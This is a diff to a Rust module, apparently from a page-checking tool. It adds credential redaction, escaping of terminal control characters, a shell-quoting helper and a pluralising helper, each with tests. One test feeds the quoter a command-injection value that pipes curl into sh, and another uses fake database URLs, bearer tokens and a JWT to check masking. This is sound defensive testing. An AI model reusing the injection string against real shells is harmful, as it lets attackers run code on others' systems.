@@ -1,8 +1,9 @@
 //! What was fetched, once, as the checks read it. Nothing here calls.
 
-use std::time::Duration;
+use std::{fmt::Display, time::Duration};
 
 use bytes::Bytes;
+use greenroom_logging::visible;
 use http::HeaderMap;
 use serde_json::Value;
 
@@ -243,23 +244,39 @@ impl Seen {
     }
 }
 
-/// A text of a server or of a page as it may be shown: on one line, without what moves a terminal's cursor, not long.
+/// A text of a server or of a page as it may be shown: without credentials, as far as their form shows them, not long, on one line and
+/// without orders for a terminal.
 pub(crate) fn said(text: &str) -> String {
     const MOST: usize = 200;
-    let plain = |c: char| if c.is_control() { ' ' } else { c };
-    let mut shown: String = text.chars().take(MOST).map(plain).collect();
-    if text.chars().nth(MOST).is_some() {
-        shown.push('…');
+    // First: of what is cut, nobody could tell any more what it was.
+    let text = greenroom_redact::text(text);
+    match text.char_indices().nth(MOST) {
+        Some((end, _)) => format!("{}…", visible(&text[..end])),
+        None => visible(&text).into_owned(),
     }
-    shown
+}
+
+/// A text as a shell takes it for one word, which it does of most URLs as they are.
+pub(crate) fn quoted(text: &str) -> String {
+    match text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"/:.-_%+,@".contains(&byte)) {
+        true => text.to_owned(),
+        false => format!("'{}'", text.replace('\'', r"'\''")),
+    }
+}
+
+/// How many, in words: `1 file`, `2 files`.
+pub(crate) fn many<N: Display + PartialEq + From<u8>>(count: N, what: &str) -> String {
+    let end = if count == N::from(1) { "" } else { "s" };
+    format!("{count} {what}{end}")
 }
 
 /// Names, some of them written out: `a, b, c and 4 more`.
 pub(crate) fn listed<T: AsRef<str>>(names: impl IntoIterator<Item = T>, most: usize) -> String {
-    let all: Vec<String> = names.into_iter().map(|name| said(name.as_ref())).collect();
-    match all.len().checked_sub(most) {
-        Some(more) if more > 0 => format!("{} and {more} more", all[..most].join(", ")),
-        _ => all.join(", "),
+    let mut names = names.into_iter();
+    let first: Vec<String> = names.by_ref().take(most).map(|name| said(name.as_ref())).collect();
+    match names.count() {
+        0 => first.join(", "),
+        more => format!("{} and {more} more", first.join(", ")),
     }
 }
 
@@ -269,8 +286,31 @@ mod tests {
 
     #[test]
     fn what_a_server_says_moves_no_cursor_and_is_not_long() {
-        assert_eq!(said("a\x1b[2Jb\nc"), "a [2Jb c");
+        assert_eq!(said("a\x1b[2Jb\nc\u{9b}\u{202e}"), r"a\u001b[2Jb\nc\u009b\u202e");
         assert_eq!(said(&"é".repeat(201)), format!("{}…", "é".repeat(200)));
+    }
+
+    #[test]
+    fn what_a_server_says_holds_no_credentials_not_even_a_part() {
+        let told = said("connect postgres://me:pw@db/x failed: Bearer abcd1234, https://h/?token=abc");
+        assert_eq!(told, "connect postgres://***@db/x failed: Bearer ***, https://h/?token=***");
+        let jwt = format!("eyJhbGciOi.eyJzdWIi{}.c2ln", "a".repeat(10_000));
+        assert_eq!(said(&format!("{}{jwt}", " ".repeat(190))), format!("{}***", " ".repeat(190)));
+    }
+
+    #[test]
+    fn a_shell_takes_what_is_quoted_for_one_word() {
+        assert_eq!(quoted("https://p.example:8443/a-b"), "https://p.example:8443/a-b");
+        assert_eq!(
+            quoted("https://p.example/x;curl$IFS'a'|sh"),
+            r"'https://p.example/x;curl$IFS'\''a'\''|sh'"
+        );
+        assert_eq!(quoted(""), "");
+    }
+
+    #[test]
+    fn one_is_told_as_one() {
+        assert_eq!([0, 1, 2].map(|count| many(count, "file")), ["0 files", "1 file", "2 files"]);
     }
 
     #[test]
